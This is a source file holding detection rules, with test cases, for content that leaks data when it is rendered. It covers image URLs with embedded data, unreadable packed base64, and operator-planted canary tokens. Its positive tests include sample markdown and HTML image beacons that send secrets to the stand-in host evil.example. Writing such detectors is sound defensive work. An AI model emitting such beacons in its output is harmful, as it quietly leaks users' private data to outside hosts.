// Rules for what carries data out by being shown, and for what was planted to tell that it does.

export const carrierRules = `
rules:
  - id: image-with-payload
    kind: exfiltration
    description: an address that is fetched when the text is shown, with room for data in it
    source: CommonMark images; HTML, attributes that embed; CSS, url()
    severity: high
    confidence: high
    container: true
    match: {beacon: {payloadBytesMin: 32}}
    tests:
      positive:
        - '![logo](«https://evil.example/p.png?d=aGVsbG8gd29ybGQgdGhpcyBpcyBhIHNlY3JldA») and text'
        - '![](«https://evil.example/c/the+meeting+is+on+friday+at+noon+in+berlin.png»)'
        - '<img width=1 src="«https://evil.example/x?user=alice&note=the%20launch%20is%20on%20friday»">'
      negative:
        - '![logo](https://example.com/assets/logo.png) and [a link](https://example.com/?q=the+meeting+is+on+friday+at+noon)'
        - '<a href="https://example.com/?q=the+meeting+is+on+friday+at+noon">x</a>'
        - 'https://example.com/?q=aGVsbG8gd29ybGQgdGhpcyBpcyBhIHNlY3JldA'
        - '<img src="https://example.com/a.png?v=12">'
  - id: unread-packed-data
    kind: packed
    description: compressed data in base64 or hex that is damaged or becomes too long, so that it is not known what is in it
    source: RFC 1950, RFC 1952
    severity: medium
    confidence: high
    match: {packed: {}}
    tests:
      positive:
        - '«H4sIAAAAAAAAAwAsANP/dGhlIHdvcmRzIG9mIGEgdGV4dCB0aGF0IG5vYm9keSBjYW4gcmVhZCBvbi4HAAAAAAAAAAA»'
      negative:
        - 'H4sIAAAAAAACAyvPL0opVshPU0hUKEmtKFEozyzJUMjLL8nIzEtXyMxTyCxRSASinBwAk0mP+CkAAAA and H4sI alone'

  - id: canary
    kind: canary
    description: a text that an operator planted and that must never leave; without a key the example alone
    source: this product, spc_ and base32 of an id and of its keyed digest
    severity: critical
    confidence: high
    container: true
    match: {canary: {}}
    tests:
      positive:
        - 'the list says «spc_aaaabbbbccccddddeeeeffffgggghhhhiiiijjjj» and more'
        - '«SPC_AAAABBBBCCCCDDDDEEEEFFFFGGGGHHHHIIIIJJJJ»@example.com'
        - 'https://example.com/x«spc_aaaabbbbccccddddeeeeffffgggghhhhiiiijjjj».png'
      negative:
        - 'spc_aaaabbbbccccddddeeeeffffgggghhhhiiiijjjk'
        - 'spc_aaaabbbbccccddddeeeeffffgggghhhhiiiijjj'
        - 'spc_1aaabbbbccccddddeeeeffffgggghhhhiiiijjjj'
`;
